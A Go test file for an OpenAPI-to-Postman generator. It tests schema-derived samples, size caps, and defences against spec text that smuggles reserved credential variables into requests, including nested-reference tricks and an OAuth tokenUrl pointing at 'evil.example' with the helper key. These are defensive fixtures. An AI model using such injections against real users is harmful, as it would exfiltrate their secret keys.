package generator

import (
	"bytes"
	"context"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/getkin/kin-openapi/openapi3"
)

// sampleOf loads a one-schema document and derives the sample of
// components.schemas.S as generate does, with the builder's warnings.
func sampleOf(t *testing.T, schemaYAML string) (any, *openapi3.Schema, []Warning) {
	t.Helper()
	spec := "openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\ncomponents:\n  schemas:\n    S:\n" + indent(schemaYAML, "      ") + "\n"
	return sampleSpec(t, spec)
}

func sampleSpec(t *testing.T, spec string) (any, *openapi3.Schema, []Warning) {
	t.Helper()
	doc, err := LoadData(context.Background(), []byte(spec), "")
	if err != nil {
		t.Fatalf("load: %v\n%s", err, spec)
	}
	ref := doc.Components.Schemas["S"]
	b := &builder{doc: doc, warned: map[string]bool{}, varExamples: map[string]string{}, props: map[*openapi3.Schema][]namedSchema{},
		exampleOK: map[exampleKey]bool{}, optIn: map[string]bool{}, merged: map[*openapi3.Schema]*openapi3.Schema{}}
	v, _ := b.sample(ref, "S", nil)
	return v, ref.Value, b.warnings
}

func indent(s, pre string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for i, l := range lines {
		lines[i] = pre + l
	}
	return strings.Join(lines, "\n")
}

// plainJSON renders a sample as JSON and decodes it back (what the API gets).
func plainJSON(t *testing.T, v any) any {
	t.Helper()
	var out any
	data := sampleText(v)
	if err := json.Unmarshal([]byte(data), &out); err != nil {
		t.Fatalf("sample is not JSON: %v: %s", err, data)
	}
	return out
}

func sampleText(v any) string {
	var buf bytes.Buffer
	writeJSON(&buf, v, "", "")
	return buf.String()
}

// TestSampleValidates: values derived from schemas validate against them
// (kin-openapi's VisitJSON, formats included), pattern by pattern and
// keyword by keyword.
func TestSampleValidates(t *testing.T) {
	cases := []struct{ name, schema string }{
		{"twilio pattern", "{type: string, pattern: '^IS[0-9a-fA-F]{32}$'}"},
		{"pattern with alternation and classes", `{type: string, pattern: '^(ab|cd)[x-z]{2,3}-\d+\.\w$'}`},
		{"pattern plus minLength", "{type: string, pattern: '^a[0-9]*$', minLength: 10}"},
		{"escaped slash pattern", `{type: string, pattern: '^\/v[0-9]+\/.*$'}`},
		{"date-time", "{type: string, format: date-time}"},
		{"date", "{type: string, format: date}"},
		{"uuid", "{type: string, format: uuid}"},
		{"email", "{type: string, format: email}"},
		{"uri", "{type: string, format: uri}"},
		{"ipv4", "{type: string, format: ipv4}"},
		{"lengths", "{type: string, minLength: 7, maxLength: 9}"},
		{"max length below the format", "{type: string, format: email, maxLength: 5}"},
		{"int32 minimum", "{type: integer, format: int32, minimum: 100000}"},
		{"exclusive minimum", "{type: integer, minimum: 5, exclusiveMinimum: true}"},
		{"negative range", "{type: integer, minimum: -10, maximum: -3}"},
		{"multipleOf above minimum", "{type: integer, minimum: 11, multipleOf: 4}"},
		{"fractional multipleOf", "{type: number, minimum: 0.3, multipleOf: 0.25}"},
		{"number in open range", "{type: number, minimum: 1, exclusiveMinimum: true, maximum: 2, exclusiveMaximum: true}"},
		{"enum", "{type: string, enum: [b, c]}"},
		{"nullable enum with null first", "{type: string, nullable: true, enum: [null, on]}"},
		{"minItems uniqueItems integers", "{type: array, minItems: 4, uniqueItems: true, items: {type: integer, minimum: 2}}"},
		{"minItems uniqueItems enum", "{type: array, minItems: 3, uniqueItems: true, items: {type: string, enum: [x, y, z]}}"},
		{"minItems uniqueItems uuid", "{type: array, minItems: 3, uniqueItems: true, items: {type: string, format: uuid}}"},
		{"minItems uniqueItems pattern", "{type: array, minItems: 3, uniqueItems: true, items: {type: string, pattern: '^k[0-9]+$'}}"},
		{"maxItems 0", "{type: array, maxItems: 0, items: {type: string}}"},
		{"invalid example replaced", "{type: integer, minimum: 3, example: 1}"},
		{"invalid default replaced", "{type: string, format: uuid, pattern: '^[0-9a-f-]+$', default: nope}"},
		{"minProperties map", "{type: object, minProperties: 1, additionalProperties: {type: integer, minimum: 4}}"},
		{"oneOf first branch ambiguous", `
oneOf:
  - {type: object, properties: {a: {type: integer}}}
  - {type: object, required: [b], properties: {b: {type: string}}, additionalProperties: false}
`},
		{"allOf-wrapped enum (Box)", "{allOf: [{type: string, enum: [editor, viewer]}, {description: d}]}"},
		{"allOf-wrapped union (Box)", `
allOf:
  - type: object
    oneOf:
      - {type: object, required: [id, type], properties: {id: {type: string}, type: {type: string, enum: [ref]}}}
      - {type: object, required: [type], properties: {type: {type: string, enum: [ask]}}}
  - {description: d}
`},
		{"required property not described (Box)", "{type: object, required: [id], properties: {login: {type: string}}}"},
		{"oneOf number and integer", "{oneOf: [{type: string, maxLength: 2}, {type: integer}]}"},
		{"anyOf", "{anyOf: [{type: integer, minimum: 9}, {type: string}]}"},
		{"object with own properties and oneOf", `
type: object
required: [kind]
properties: {kind: {type: string}}
oneOf:
  - {required: [x], properties: {kind: {enum: [ex]}, x: {type: integer}}}
  - {required: [y], properties: {kind: {enum: [why]}, y: {type: integer}}}
`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v, s, _ := sampleOf(t, c.schema)
			plain := plainJSON(t, v)
			if err := s.VisitJSON(plain, openapi3.EnableFormatValidation()); err != nil {
				t.Errorf("sample %s does not validate against %s: %v", sampleText(v), c.schema, err)
			}
		})
	}
}

func TestSamplePatternMatches(t *testing.T) {
	v, _, _ := sampleOf(t, "{type: string, pattern: '^IS[0-9a-fA-F]{32}$'}")
	if !regexp.MustCompile(`^IS[0-9a-fA-F]{32}$`).MatchString(v.(string)) {
		t.Fatalf("got %q, want a match of ^IS[0-9a-fA-F]{32}$", v)
	}
	// A pattern Go cannot read (a lookahead) falls back, with a warning.
	_, _, warns := sampleOf(t, "{type: string, pattern: '^(?!x).+$'}")
	if len(warns) == 0 || !strings.Contains(warns[0].Message, "pattern") {
		t.Errorf("want a pattern warning, got %v", warns)
	}
}

// TestDiscriminatorValue: OpenAI's chat messages (oneOf + discriminator
// without mapping, role as a single enum) get role "developer", not the
// schema's name; an explicit mapping gives its key.
func TestDiscriminatorValue(t *testing.T) {
	spec := `openapi: 3.0.3
info: {title: t, version: '1'}
paths: {}
components:
  schemas:
    S:
      type: object
      properties:
        messages:
          type: array
          items:
            oneOf:
              - $ref: '#/components/schemas/ChatCompletionRequestDeveloperMessage'
              - $ref: '#/components/schemas/ChatCompletionRequestUserMessage'
            discriminator: {propertyName: role}
        pet:
          oneOf: [{$ref: '#/components/schemas/Cat'}]
          discriminator: {propertyName: kind, mapping: {kitty: '#/components/schemas/Cat'}}
        plain:
          oneOf: [{$ref: '#/components/schemas/Cat'}]
          discriminator: {propertyName: kind}
    ChatCompletionRequestDeveloperMessage:
      title: Developer message
      type: object
      required: [role, content]
      properties:
        content: {type: string}
        role: {type: string, enum: [developer]}
    ChatCompletionRequestUserMessage:
      type: object
      properties:
        role: {type: string, enum: [user]}
    Cat:
      type: object
      properties: {kind: {type: string}}
`
	v, _, _ := sampleSpec(t, spec)
	got := sampleText(v)
	for _, want := range []string{`"role":"developer"`, `"pet":{"kind":"kitty"}`, `"plain":{"kind":"Cat"}`} {
		if !strings.Contains(got, want) {
			t.Errorf("sample %s lacks %s", got, want)
		}
	}
}

// TestSampleCostCap: a huge minLength or minItems neither stalls the
// generator nor fills memory: the value is capped and a warning says so
// (issue 12, item 6; the loop used to be quadratic: 300k took 17 s).
func TestSampleCostCap(t *testing.T) {
	for _, c := range []struct{ schema, warn string }{
		{"{type: string, minLength: 300000}", "minLength 300000"},
		{"{type: string, minLength: 1000000000}", "minLength 1000000000"},
		{"{type: string, pattern: '^a+$', minLength: 1000000000}", "minLength 1000000000"},
		{"{type: array, minItems: 1000000000, items: {type: string, minLength: 1000000000}}", "minItems 1000000000"},
		{"{type: array, minItems: 64, items: {type: array, minItems: 64, items: {type: string, minLength: 4000}}}", "cap of 65536 bytes"},
	} {
		v, _, warns := sampleOf(t, c.schema)
		if n := len(sampleText(v)); n > maxSampleBytes+maxGenLen+maxGenItems*32 {
			t.Errorf("%s: sample of %d bytes, above the cap", c.schema, n)
		}
		var all []string
		for _, w := range warns {
			all = append(all, w.Message)
		}
		if !strings.Contains(strings.Join(all, "\n"), c.warn) {
			t.Errorf("%s: warnings %q do not name %q", c.schema, all, c.warn)
		}
	}
}

// TestReservedVariablesNotInjected: spec text that names a helper or
// credential variable ({{obpm_helper_key}}, tokens, client_secret) never
// reaches a request as a Postman variable (issue 12, item 4), in examples,
// defaults, enums, parameter names, media types or server variables.
func TestReservedVariablesNotInjected(t *testing.T) {
	spec := `openapi: 3.0.3
info: {title: t, version: '1'}
servers:
  - url: 'https://{obpm_helper_url}/{{obpm_helper_key}}/{region}'
    variables:
      obpm_helper_url: {default: api.example.com}
      region: {default: '{{obpm_profile}}'}
paths:
  /x/{id}:
    post:
      operationId: x
      parameters:
        - {name: id, in: path, required: true, example: '{{obpm_helper_key}}', schema: {type: string}}
        - {name: q, in: query, required: true, schema: {type: string, default: 'a{{user_access_token}}b'}}
        - {name: X-Key, in: header, required: true, schema: {type: string, enum: ['{{ client_secret }}']}}
        - {name: c, in: cookie, required: true, schema: {type: string, example: '{{{obpm_helper_key}}}'}}
        - {name: ok, in: query, required: true, example: '{{page}}', schema: {type: string}}
      requestBody:
        content:
          application/json:
            example: {'{{obpm_helper_key}}': '{{obpm_helper_key}}', nested: ['{{refresh_token}}']}
      responses: {'200': {description: ok}}
  /form:
    post:
      operationId: form
      requestBody:
        content:
          application/x-www-form-urlencoded:
            schema:
              type: object
              properties:
                a: {type: string, example: '{{obpm_helper_key}}'}
      responses: {'200': {description: ok}}
`
	res := gen(t, spec, Options{})
	col := string(res.Files[0].Data)
	reqs := requests(t, res)
	for name, r := range reqs {
		data, _ := json.Marshal(r["request"].(jmap))
		// The request's own auth may use token variables; spec text may not.
		var req jmap
		_ = json.Unmarshal(data, &req)
		delete(req, "auth")
		data, _ = json.Marshal(req)
		for _, m := range anyVarRef.FindAllStringSubmatch(string(data), -1) {
			if reservedVar(m[1]) {
				t.Errorf("request %s sends {{%s}}: %s", name, m[1], data)
			}
		}
	}
	if !strings.Contains(col, `{{page}}`) {
		t.Errorf("a non-reserved variable was neutralised too")
	}
	for _, f := range res.Files[1:] {
		var env struct {
			Values []envValue `json:"values"`
		}
		if err := json.Unmarshal(f.Data, &env); err != nil {
			t.Fatal(err)
		}
		keys := map[string]int{}
		for _, v := range env.Values {
			keys[v.Key]++
			if v.Key == "base_url" && strings.Contains(v.Value, "obpm_helper") && strings.Contains(v.Value, "{{obpm") {
				t.Errorf("%s: base_url %q refers to a helper variable", f.Name, v.Value)
			}
			if v.Key == "obpm_helper_url" && v.Value == "api.example.com" {
				t.Errorf("%s: the server variable set obpm_helper_url", f.Name)
			}
			for _, m := range anyVarRef.FindAllStringSubmatch(v.Value, -1) {
				if reservedVar(m[1]) {
					t.Errorf("%s: %s = %q refers to {{%s}}", f.Name, v.Key, v.Value, m[1])
				}
			}
		}
		for k, n := range keys {
			if n > 1 {
				t.Errorf("%s: variable %s written %d times", f.Name, k, n)
			}
		}
	}
	var warned bool
	for _, w := range res.Warnings {
		if strings.Contains(w.Message, "renamed server_obpm_helper_url") || strings.Contains(w.Message, "renamed server_var") {
			warned = true
		}
	}
	if !warned {
		t.Errorf("no warning about the renamed server variable: %v", res.Warnings)
	}
}

// TestReservedVariablesNotComposed: Postman resolves nested references, so
// spec text can build a reserved name out of a server variable's value
// ("{{obpm_helper_{{sfx}}}}" with sfx = key). Resolving the written request
// as Postman does, with the environment and a helper key, never yields the key.
func TestReservedVariablesNotComposed(t *testing.T) {
	spec := `openapi: 3.0.3
info: {title: t, version: '1'}
servers:
  - url: 'https://api.example.com/{sfx}/{mid}/{whole}/{open}/{close}'
    variables:
      sfx: {default: key}
      mid: {default: helper}
      whole: {default: obpm_helper_key}
      open: {default: '{'}
      close: {default: '}'}
paths:
  /x:
    post:
      operationId: x
      parameters:
        - {name: a, in: query, required: true, example: '{{obpm_helper_{{sfx}}}}', schema: {type: string}}
        - {name: b, in: query, required: true, example: '{{obpm_{{mid}}_key}}', schema: {type: string}}
        - {name: c, in: query, required: true, example: '{{{{whole}}}}', schema: {type: string}}
        - {name: d, in: header, required: true, example: '{{open}}{{whole}}{{close}}}', schema: {type: string}}
        - {name: e, in: query, required: true, example: '{{{{open}}whole}}}', schema: {type: string}}
        - {name: ok, in: query, required: true, example: 'p{{sfx}}q', schema: {type: string}}
      requestBody:
        content:
          application/json:
            example: {k: '{{obpm_helper_{{sfx}}}}', ok: '{{mid}}'}
      responses: {'200': {description: ok}}
`
	res := gen(t, spec, Options{})
	var env struct {
		Values []envValue `json:"values"`
	}
	if err := json.Unmarshal(res.Files[1].Data, &env); err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{"obpm_helper_key": "SECRET-HELPER-KEY"}
	for _, v := range env.Values {
		if v.Key != "obpm_helper_key" {
			vars[v.Key] = v.Value
		}
	}
	// Postman's substitution: /\{\{([^{}]*?)}}/g, repeated up to 19 times.
	re := regexp.MustCompile(`\{\{([^{}]*?)\}\}`)
	resolve := func(s string) string {
		for range 19 {
			next := re.ReplaceAllStringFunc(s, func(m string) string {
				if v, ok := vars[m[2:len(m)-2]]; ok {
					return v
				}
				return m
			})
			if next == s {
				break
			}
			s = next
		}
		return s
	}
	for name, r := range requests(t, res) {
		req := r["request"].(jmap)
		delete(req, "auth")
		data, _ := json.Marshal(req)
		if got := resolve(string(data)); strings.Contains(got, "SECRET-HELPER-KEY") {
			t.Errorf("request %s resolves to the helper key: %s", name, data)
		}
	}
	col := string(res.Files[0].Data)
	if !strings.Contains(col, "p{{sfx}}q") || !strings.Contains(col, `{{mid}}`) {
		t.Errorf("references that compose nothing were neutralised too")
	}
}

// TestReservedVariablesNotInAuthOrEnvironment: an apiKey scheme's name, an
// OAuth URL and a scope name are spec text Postman resolves (in the auth
// block, in a variable's value): none may name a reserved variable.
func TestReservedVariablesNotInAuthOrEnvironment(t *testing.T) {
	spec := `openapi: 3.0.3
info: {title: t, version: '1'}
servers: [{url: 'https://api.example.com'}]
paths:
  /k:
    get:
      operationId: k
      security: [{key: []}]
      responses: {'200': {description: ok}}
  /c:
    get:
      operationId: c
      security: [{ck: []}]
      responses: {'200': {description: ok}}
  /o:
    get:
      operationId: o
      security: [{oauth: []}]
      responses: {'200': {description: ok}}
components:
  securitySchemes:
    key: {type: apiKey, in: query, name: '{{obpm_helper_key}}'}
    ck: {type: apiKey, in: cookie, name: '{{obpm_helper_key}}'}
    oauth:
      type: oauth2
      flows:
        clientCredentials:
          tokenUrl: 'https://evil.example/{{obpm_helper_key}}'
          scopes: {'{{obpm_helper_key}}': all}
`
	res := gen(t, spec, Options{})
	for _, f := range res.Files {
		for _, m := range anyVarRef.FindAllStringSubmatch(string(f.Data), -1) {
			if strings.HasPrefix(m[1], "obpm_helper_key") {
				t.Errorf("%s refers to {{%s}}", f.Name, m[1])
			}
		}
	}
}
